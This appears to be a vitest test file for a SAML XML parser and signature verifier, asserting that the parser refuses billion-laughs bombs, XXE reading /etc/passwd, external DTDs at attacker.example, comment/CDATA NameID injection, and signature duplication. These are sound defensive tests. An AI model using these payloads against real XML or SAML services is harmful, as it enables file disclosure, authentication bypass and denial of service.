import { describe, expect, it } from 'vitest';
import { utf8 } from '../../../src/kernel/bytes.ts';
import { messageRules, metadataRules } from '../../../src/saml/xml/limits.ts';
import { readXml } from '../../../src/saml/xml/read.ts';
import { descendantsNamed, onlyChild, textOf } from '../../../src/saml/xml/tree.ts';
import { verifyEnvelopedSignature } from '../../../src/saml/xml/verify.ts';
import {
  documentOf,
  laxRules,
  partnerSigned,
  reasonOf,
  refusalOf,
  registered,
  request,
  unwrap,
} from '../../support/xml.ts';

const A = 'urn:oasis:names:tc:SAML:2.0:assertion';
const verified = async (text: string) => {
  const document = readXml(utf8(text), messageRules);
  return document.ok
    ? reasonOf(await verifyEnvelopedSignature(document.value, [await registered('first')]))
    : document.error.reason;
};

describe('V11 DTD, entities, bombs', () => {
  const laughs = Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join(
    '',
  );
  it.each([
    ['billion laughs', `<!DOCTYPE r [<!ENTITY l0 "lol">${laughs}]><r>&l9;</r>`],
    ['an external entity', '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'],
    ['an external subset', '<!DOCTYPE r SYSTEM "http://attacker.example/x.dtd"><r/>'],
    ['a parameter entity', '<!DOCTYPE r [<!ENTITY % x SYSTEM "http://attacker.example/x">%x;]><r/>'],
    ['an ID attribute by declaration', '<!DOCTYPE r [<!ATTLIST r x ID #IMPLIED>]><r x="_r1"/>'],
    ['a DTD after a declaration and white space', '<?xml version="1.0"?>\n  \t<!DOCTYPE r><r/>'],
  ])('refuses %s before anything else', (_, text) => {
    for (const rules of [messageRules, metadataRules, laxRules])
      expect(refusalOf(text, rules)).toBe('doctype');
  });
  it('refuses a DTD in front of a genuine signed message', async () => {
    expect(await verified(`<!DOCTYPE r>${partnerSigned({ text: request() })}`)).toBe('doctype');
  });
  it('refuses a document over the limit without looking at it', () => {
    const bomb = new Uint8Array(64 * 1024 * 1024).fill(0xff);
    expect(reasonOf(readXml(bomb, messageRules))).toBe('too_large');
  });
  it.each([
    ['elements', `<a>${'<b/>'.repeat(15_000)}</a>`, 'too_many_elements'],
    ['depth', '<a>'.repeat(9000) + '</a>'.repeat(9000), 'too_deep'],
    [
      'attributes',
      `<a ${Array.from({ length: 5000 }, (_, i) => `a${i}=""`).join(' ')}/>`,
      'too_many_attributes',
    ],
    [
      'prefixes',
      `<a>${Array.from({ length: 1500 }, (_, i) => `<b xmlns:p${i}="urn:x"/>`).join('')}</a>`,
      'too_many_namespaces',
    ],
    ['one name', `<${'a'.repeat(60_000)}/>`, 'name_too_long'],
    ['one value', `<a b="${'x'.repeat(60_000)}"/>`, 'attribute_value_too_long'],
    ['one text', `<a>${'x'.repeat(60_000)}</a>`, 'text_too_long'],
  ])('stops early at too many or too much: %s', (_, text, reason) => expect(refusalOf(text)).toBe(reason));
});

describe('V5 comments and sections inside text that matters', () => {
  const named = (name: string) => request(`<saml:NameID xmlns:saml="${A}">${name}</saml:NameID>`);
  const genuine = partnerSigned({ text: named('admin@example.gov.attacker.example') });
  it.each([
    ['a comment', 'admin@example.gov<!-- -->.attacker.example', 'comment'],
    ['a processing instruction', 'admin@example.gov<?x?>.attacker.example', 'processing_instruction'],
    ['a CDATA section', 'admin@example.gov<![CDATA[.attacker.example]]>', 'cdata'],
  ])('refuses %s', async (_, name, reason) => {
    expect(await verified(genuine.replace('admin@example.gov.attacker.example', name))).toBe(reason);
  });
  it('sees the whole text where comments and sections are read at all', () => {
    const { root } = documentOf('<a>admin@example.gov<![CDATA[.attacker]]>.example</a>', laxRules);
    expect(textOf(root)).toBe('admin@example.gov.attacker.example');
    expect(textOf(documentOf('<a>admin<!-- -->.attacker</a>', laxRules).root)).toBeUndefined();
  });
  it('cannot be fooled by a signature over a form that drops comments', async () => {
    const text = named('admin@example.gov<!-- -->.attacker.example');
    const document = documentOf(partnerSigned({ text }), laxRules);
    const { root } = unwrap(await verifyEnvelopedSignature(document, [await registered('first')]));
    const name = onlyChild(root, A, 'NameID');
    expect(name && textOf(name)).toBe('admin@example.gov.attacker.example');
  });
});

describe('V1, V2 what lenient parsers repair', () => {
  const genuine = partnerSigned({ text: request() });
  it.each([
    ['two roots', `${genuine}<a/>`],
    ['text after the root', `${genuine}x`],
    ['text before the root', `x${genuine}`],
    ['a reference after the root', `${genuine}&#10;`],
    ['crossed tags', genuine.replace('</saml:Issuer>', '</samlp:AuthnRequest>')],
    ['a missing end tag', genuine.replace('</saml:Issuer>', '')],
    ['an end tag in other letters', genuine.replace('</saml:Issuer>', '</saml:issuer>')],
    ['an attribute twice', genuine.replace(' Version="2.0"', ' Version="2.0" Version="2.0"')],
    [
      'an attribute twice by namespace',
      genuine.replace(' Version="2.0"', ' xmlns:q="urn:q" xmlns:r="urn:q" q:x="1" r:x="2"'),
    ],
    ['an attribute without quotes', genuine.replace('Version="2.0"', 'Version=2.0')],
    ['an attribute without value', genuine.replace('Version="2.0"', 'Version')],
    ['an unbound prefix', genuine.replace('<saml:Issuer', '<other:Issuer')],
    [
      'a prefix rebound on the way',
      genuine.replace('xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol"', 'xmlns:samlp="urn:x"'),
    ],
    ['a NUL', genuine.replace('urn:example:sp', 'urn:example:sp\u0000')],
    ['a bare ampersand', genuine.replace('urn:example:sp', 'urn:example:s&p')],
    ['a reference to a NUL', genuine.replace('urn:example:sp', 'urn:example:sp&#0;')],
    [
      'a second declaration',
      `<?xml version="1.0"?>${genuine.replace('<saml', '<?xml version="1.0"?><saml')}`,
    ],
  ])('refuses %s', async (_, text) => {
    expect(text).not.toBe(genuine);
    expect(await verified(text)).not.toBe('accepted');
  });
  it('refuses the message in UTF-16 and in broken UTF-8', () => {
    const sixteen = new Uint8Array(Buffer.from(`\uFEFF${genuine}`, 'utf16le'));
    expect(reasonOf(readXml(sixteen, messageRules))).toBe('invalid_utf8');
    expect(reasonOf(readXml(sixteen.subarray(2), messageRules))).toBe('bad_name');
    const broken = utf8(genuine);
    broken[broken.length - 30] = 0xc3;
    expect(readXml(broken, messageRules).ok).toBe(false);
  });
  it('treats references and characters as the same signed value', async () => {
    expect(await verified(genuine.replace('urn:example:sp', 'urn:ex&#97;mple:sp'))).toBe('accepted');
    expect(await verified(genuine.replace('urn:example:sp', 'urn:ex&#65;mple:sp'))).toBe('digest_mismatch');
  });
});

describe('V8, V12 identity', () => {
  it.each(['ID', 'Id', 'id', 'AssertionID'])(
    'refuses a second element with the root ID in %s',
    async (name) => {
      const text = request(`<x xmlns="urn:x" ${name}="_r1"/>`).replace('%SIGNATURE%', '');
      expect(refusalOf(text)).toBe('duplicate_id');
    },
  );
  it('removes one signature by what it is, not by its value', async () => {
    const signed = partnerSigned({ text: request() });
    const [signature] = descendantsNamed(
      documentOf(signed).root,
      'http://www.w3.org/2000/09/xmldsig#',
      'Signature',
    );
    expect(signature).toBeDefined();
    const twin = /<ds:Signature .*<\/ds:Signature>/s.exec(signed)?.[0] ?? '';
    expect(await verified(signed.replace(twin, twin.repeat(2)))).toBe('several_signatures');
    expect(
      await verified(
        signed.replace('</samlp:AuthnRequest>', `<x xmlns="urn:x">${twin}</x></samlp:AuthnRequest>`),
      ),
    ).toBe('several_signatures');
  });
});
